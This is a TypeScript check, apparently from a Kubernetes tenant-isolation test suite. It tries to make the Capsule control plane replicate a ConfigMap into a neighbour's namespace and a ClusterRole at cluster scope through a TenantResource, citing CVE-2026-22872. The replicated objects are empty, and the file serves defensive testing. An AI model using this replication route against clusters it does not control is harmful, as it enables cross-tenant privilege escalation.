import type { Condition, KubeObject } from '../../../../kube/object.ts';
import { allowed, refused, untried } from '../../outcome.ts';
import type { Attack } from '../../attack.ts';
import { exists } from '../../exists.ts';
import { checkLabel } from '../../made-by-check.ts';
import { target, typeOf, type Target } from '../../target.ts';
import { outcomeOf } from '../../tries.ts';
import { waitUntil } from '../../wait-until.ts';
import { deployerName, withoutTenants, type World } from '../../world.ts';

const patienceSeconds = 30;

export const replicateElsewhere: Attack = {
  id: 'replications/elsewhere',
  title:
    "has the control plane write into a neighbour's namespace, and for the cluster, by replication",
  why: 'what writes for all tenants may write everywhere (CVE-2026-22872)',
  remedy:
    'replicate as accounts of the tenant, into its own namespaces, and no kinds of the cluster',
  async attempt(world) {
    const none = withoutTenants(world);
    if (none) return none;
    try {
      const { run, neighbour } = world;
      const targets = [
        target('v1', 'ConfigMap', 'replicated', neighbour.namespace),
        target('rbac.authorization.k8s.io/v1', 'ClusterRole', `${run}-replicated`),
      ];
      const told = await replicate(world, targets);
      for (const of of targets) {
        if (await exists(world, of)) return allowed(`it made ${of.kind} ${of.metadata.name}`);
      }
      if (told === undefined) return untried(`nothing came of it within ${patienceSeconds} s`);
      return refused(told);
    } catch (error) {
      return outcomeOf(error, 'a TenantResource', world.configuration);
    }
  },
};

interface WithStatus extends KubeObject {
  status?: {
    conditions?: Condition[];
    processedItems?: { kind?: string; name?: string; status?: string; message?: string }[];
  };
}

/** Writes it as the attacker; what became of it, once its controller has said so. */
async function replicate(world: World, targets: readonly Target[]): Promise<string | undefined> {
  const { attacker, run, signal } = world;
  const { client } = attacker.deployer;
  const label = { [checkLabel]: run };
  const object = {
    apiVersion: 'capsule.clastix.io/v1beta2',
    kind: 'TenantResource',
    metadata: { name: 'elsewhere', namespace: attacker.namespace, labels: label },
    spec: {
      resyncPeriod: '60s',
      serviceAccount: { name: deployerName },
      resources: [
        {
          rawItems: targets.map((of) => ({
            ...of,
            metadata: { ...of.metadata, labels: label },
            ...(of.kind === 'ClusterRole' ? { rules: [] } : { data: {} }),
          })),
        },
      ],
    },
  };
  const type = await typeOf(client, object);
  await client.apply(type, object, { fieldManager: 'tenantry-check', force: true });
  return waitUntil(
    async () => {
      const { status } = await client.get<WithStatus>(type, object.metadata, { signal });
      const ready = status?.conditions?.find((each) => each.type === 'Ready');
      return ready && ready.status !== 'Unknown' && `${ready.reason}: ${ready.message}`;
    },
    { seconds: patienceSeconds, signal },
  );
}
